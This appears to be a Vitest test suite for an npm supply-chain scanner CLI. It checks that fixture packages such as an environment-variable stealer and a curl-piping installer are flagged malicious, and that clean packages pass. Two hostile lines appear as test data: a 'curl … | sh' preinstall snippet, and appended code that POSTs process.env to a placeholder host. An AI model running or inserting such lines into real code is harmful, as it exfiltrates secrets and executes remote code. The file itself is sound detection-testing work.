import { appendFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createSandbox, describeRun, findingsOf, packageNamed, registryUrl, scanJson, tarsier, type Sandbox } from '../helpers/cli.ts'
import { copyIntoNodeModules, listDir, packFixture, prepareProject, readLockfile } from '../helpers/fixtures.ts'

const STEALER = 'tarsier-fixture-env-stealer'

let sandbox: Sandbox
beforeAll(async () => {
  sandbox = await createSandbox()
})
afterAll(() => sandbox?.dispose())

describe('registry spec target', () => {
  it('name@version: the package and the tree it would install; the transitive stealer is caught', async () => {
    const run = await scanJson('tarsier-fixture-toolkit@1.0.0', [], { sandbox })
    expect(run.code, describeRun(run)).toBe(1)
    const { report } = run
    expect(report).toMatchObject({ targetKind: 'registry-spec', target: 'tarsier-fixture-toolkit@1.0.0', incomplete: false })
    expect(report.packages.map((p) => `${p.name}@${p.version}`).sort()).toEqual([`${STEALER}@1.0.0`, 'tarsier-fixture-toolkit@1.0.0', 'tarsier-fixture-util@1.0.0'])
    expect(report.packages.every((p) => p.status === 'scanned' && p.source === 'registry')).toBe(true)
    expect(packageNamed(report, STEALER).verdict).toBe('malicious')
    expect(findingsOf(packageNamed(report, STEALER), 'env-exfiltration')[0]).toMatchObject({ severity: 'critical', file: 'steal.js' })
    expect(packageNamed(report, 'tarsier-fixture-toolkit').verdict).toBe('clean')
    expect(await listDir(sandbox.tmp), 'the temp project of the spec is removed').toEqual([])
  })

  it('--threads 1: one analysis worker finds what the default finds', async () => {
    const findings = (report: Awaited<ReturnType<typeof scanJson>>['report']) =>
      report.packages.map((p) => ({ name: p.name, verdict: p.verdict, findings: p.findings.map((f) => `${f.ruleId} ${f.severity} ${f.file ?? ''}:${f.line ?? ''}`) })).sort((a, b) => a.name.localeCompare(b.name))
    const byDefault = await scanJson('tarsier-fixture-toolkit@1.0.0', ['--no-result-cache'], { sandbox })
    const oneWorker = await scanJson('tarsier-fixture-toolkit@1.0.0', ['--no-result-cache', '--threads', '1'], { sandbox })
    expect(oneWorker.code, describeRun(oneWorker)).toBe(1)
    expect(findings(oneWorker.report)).toEqual(findings(byDefault.report))
    expect(packageNamed(oneWorker.report, STEALER).verdict).toBe('malicious')
  })

  it('a bare name resolves to the latest version, a range to the highest match', async () => {
    const latest = await scanJson('tarsier-fixture-util', [], { sandbox })
    expect(latest.code, describeRun(latest)).toBe(0)
    expect(latest.report.packages.map((p) => `${p.name}@${p.version}`)).toEqual(['tarsier-fixture-util@2.0.0'])
    const range = await scanJson('tarsier-fixture-util@^1', [], { sandbox })
    expect(range.code, describeRun(range)).toBe(0)
    expect(range.report.packages.map((p) => `${p.name}@${p.version}`)).toEqual(['tarsier-fixture-util@1.0.0'])
  })

  it('a preinstall that pipes curl into sh is critical', async () => {
    const run = await scanJson('tarsier-fixture-curl-installer@1.0.0', [], { sandbox })
    expect(run.code, describeRun(run)).toBe(1)
    const pkg = packageNamed(run.report, 'tarsier-fixture-curl-installer')
    expect(pkg.verdict).toBe('malicious')
    const script = findingsOf(pkg, 'install-script')
    expect(script).toHaveLength(1)
    expect(script[0]).toMatchObject({ severity: 'critical', file: 'package.json' })
    expect(script[0]!.snippet).toContain('curl -s https://x.example.invalid/p.sh | sh')
  })

  it('a package that is not in the registry: no report, not a clean exit, the error on stderr', async () => {
    const run = await tarsier(['scan', 'tarsier-fixture-never-published@1.0.0', '--format', 'json'], { sandbox })
    expect(run.code, describeRun(run)).toBe(2)
    expect(run.stdout).toBe('')
    expect(run.stderr).toContain('tarsier-fixture-never-published@1.0.0: no such package or version in the registry')
    expect(run.stderr).not.toContain('    at ')
  })
})

describe('.tgz target', () => {
  it('a packed env stealer is read from the file and found malicious, named by its package.json', async () => {
    const tgz = await packFixture(STEALER, sandbox.work)
    expect(tgz).toMatch(/tarsier-fixture-env-stealer-1\.0\.0\.tgz$/)
    const run = await scanJson(tgz, [], { sandbox })
    expect(run.code, describeRun(run)).toBe(1)
    expect(run.report).toMatchObject({ targetKind: 'tarball', target: tgz })
    expect(run.report.packages).toHaveLength(1)
    const pkg = run.report.packages[0]!
    expect(pkg).toMatchObject({ name: STEALER, version: '1.0.0', source: 'file', status: 'scanned', verdict: 'malicious' })
    expect(findingsOf(pkg, 'env-exfiltration')[0]).toMatchObject({ severity: 'critical', file: 'steal.js' })
  })

  it('a packed benign package is clean, exit 0', async () => {
    const tgz = await packFixture('tarsier-fixture-greeter', sandbox.work)
    const run = await scanJson(tgz, [], { sandbox })
    expect(run.code, describeRun(run)).toBe(0)
    expect(run.report.packages).toMatchObject([{ name: 'tarsier-fixture-greeter', version: '1.0.0', verdict: 'clean', status: 'scanned' }])
  })
})

describe('package.json target without a lockfile (ideal tree from the registry)', () => {
  it('resolves the tree as npm install would, with nesting, writes nothing, and warns', async () => {
    const project = await prepareProject('clean-app', sandbox.work)
    const run = await scanJson(join(project, 'package.json'), [], { sandbox })
    expect(run.code, describeRun(run)).toBe(0)
    const { report } = run
    expect(report.targetKind).toBe('package.json')
    expect(report.warnings.join('\n')).toMatch(/no lockfile/)
    expect(report.packages.map((p) => [p.location, p.version])).toEqual([
      ['', '1.0.0'],
      ['node_modules/tarsier-fixture-greeter', '1.0.0'],
      ['node_modules/tarsier-fixture-greeter/node_modules/tarsier-fixture-util', '1.0.0'],
      ['node_modules/tarsier-fixture-util', '2.0.0'],
    ])
    expect(report.packages.every((p) => p.status === 'scanned' && p.verdict === 'clean')).toBe(true)
    expect(await listDir(project), 'no lockfile or node_modules is written').toEqual(['package.json'])
  })

  it('finds the stealer in the tree of a package.json', async () => {
    const project = await prepareProject('stealer-app', sandbox.work)
    const run = await scanJson(join(project, 'package.json'), [], { sandbox })
    expect(run.code, describeRun(run)).toBe(1)
    expect(packageNamed(run.report, STEALER).verdict).toBe('malicious')
    expect(run.report.summary).toMatchObject({ packages: 5, scanned: 5, malicious: 1 })
    expect(await listDir(project)).toEqual(['package.json'])
  })
})

describe('node_modules target', () => {
  it('a project with node_modules (fixture directories copied, not installed) and no lockfile', async () => {
    const project = await prepareProject('stealer-app', sandbox.work)
    await copyIntoNodeModules(project, {
      'tarsier-fixture-greeter': 'tarsier-fixture-greeter',
      'tarsier-fixture-toolkit': 'tarsier-fixture-toolkit',
      [STEALER]: STEALER,
      'tarsier-fixture-util': 'tarsier-fixture-util',
    })
    const run = await scanJson(project, [], { sandbox })
    expect(run.code, describeRun(run)).toBe(1)
    const { report } = run
    expect(report.targetKind).toBe('node_modules')
    expect(report.packages.map((p) => p.location)).toEqual([
      '',
      'node_modules/tarsier-fixture-env-stealer',
      'node_modules/tarsier-fixture-greeter',
      'node_modules/tarsier-fixture-toolkit',
      'node_modules/tarsier-fixture-util',
    ])
    expect(report.packages.every((p) => p.status === 'scanned')).toBe(true)
    const stealer = packageNamed(report, STEALER)
    expect(stealer.verdict).toBe('malicious')
    expect(findingsOf(stealer, 'env-exfiltration')[0]).toMatchObject({ severity: 'critical', file: 'steal.js' })
    expect(report.packages.filter((p) => p.name !== STEALER).every((p) => p.verdict === 'clean')).toBe(true)
  })

  it('reads the installed copy, not the registry tarball: a package tampered with after install is caught', async () => {
    const project = await prepareProject('clean-app', sandbox.work)
    await copyIntoNodeModules(project, { 'tarsier-fixture-util': 'tarsier-fixture-util-v2' })
    const installed = join(project, 'node_modules', 'tarsier-fixture-util', 'index.js')
    await appendFile(installed, "\nrequire('https').request({ hostname: 'x.example.invalid', method: 'POST' }).end(JSON.stringify(process.env))\n")
    const run = await scanJson(project, [], { sandbox })
    expect(run.code, describeRun(run)).toBe(1)
    const util = packageNamed(run.report, 'tarsier-fixture-util')
    expect(util.verdict).toBe('malicious')
    expect(findingsOf(util, 'env-exfiltration')[0]).toMatchObject({ file: 'index.js' })
  })
})

describe('--omit dev', () => {
  let project: string
  beforeAll(async () => {
    project = await prepareProject('dev-curl-app', sandbox.work, { registry: registryUrl(), resolved: true })
  })

  it('without it, the curl|sh devDependency is scanned and fails the scan', async () => {
    const lockfile = await readLockfile(project)
    expect(lockfile.packages['node_modules/tarsier-fixture-curl-installer']?.dev).toBe(true)
    const run = await scanJson(project, [], { sandbox })
    expect(run.code, describeRun(run)).toBe(1)
    const curl = packageNamed(run.report, 'tarsier-fixture-curl-installer')
    expect(curl).toMatchObject({ dev: true, verdict: 'malicious', status: 'scanned' })
  })

  it('with it, dev dependencies are left out: exit 0', async () => {
    const run = await scanJson(project, ['--omit', 'dev'], { sandbox })
    expect(run.code, describeRun(run)).toBe(0)
    expect(run.report.packages.map((p) => p.name).sort()).toEqual(['dev-curl-app', 'tarsier-fixture-greeter', 'tarsier-fixture-util'])
    expect(run.report.packages.some((p) => p.dev)).toBe(false)
  })

  it('also for a package.json resolved against the registry', async () => {
    const bare = await prepareProject('dev-curl-app', sandbox.work)
    const all = await scanJson(join(bare, 'package.json'), [], { sandbox })
    expect(all.code, describeRun(all)).toBe(1)
    expect(packageNamed(all.report, 'tarsier-fixture-curl-installer').dev).toBe(true)
    const omitted = await scanJson(join(bare, 'package.json'), ['--omit', 'dev,optional'], { sandbox })
    expect(omitted.code, describeRun(omitted)).toBe(0)
    expect(omitted.report.packages.map((p) => p.name)).not.toContain('tarsier-fixture-curl-installer')
  })
})

describe.concurrent('usage errors exit 2 and print no report', () => {
  const cases: Array<[string, string[]]> = [
    ['a path that does not exist', ['scan', './no/such/dir']],
    ['a missing .tgz', ['scan', 'missing-1.0.0.tgz']],
    ['an unknown format', ['scan', '.', '--format', 'xml']],
    ['an unknown --omit value', ['scan', '.', '--omit', 'peer']],
    ['an unknown --fail-on severity', ['scan', '.', '--fail-on', 'severe']],
    ['a bad --concurrency', ['scan', '.', '--concurrency', '0']],
    ['a bad --threads', ['scan', '.', '--threads', 'two']],
    ['an unknown option', ['scan', '.', '--no-such-flag']],
    ['an unknown command', ['inspect', '.']],
    ['a git spec', ['scan', 'github:someone/something']],
  ]
  for (const [what, args] of cases) {
    it(what, async () => {
      const run = await tarsier(args, { sandbox })
      expect(run.code, describeRun(run)).toBe(2)
      expect(run.stdout).toBe('')
      expect(run.stderr).not.toBe('')
    })
  }

  it('a file that is neither a lockfile, a package.json nor a tarball', async () => {
    const file = join(sandbox.work, 'notes.txt')
    await writeFile(file, 'hello\n')
    const run = await tarsier(['scan', file], { sandbox })
    expect(run.code, describeRun(run)).toBe(2)
    expect(run.stderr).toContain('notes.txt')
  })
})
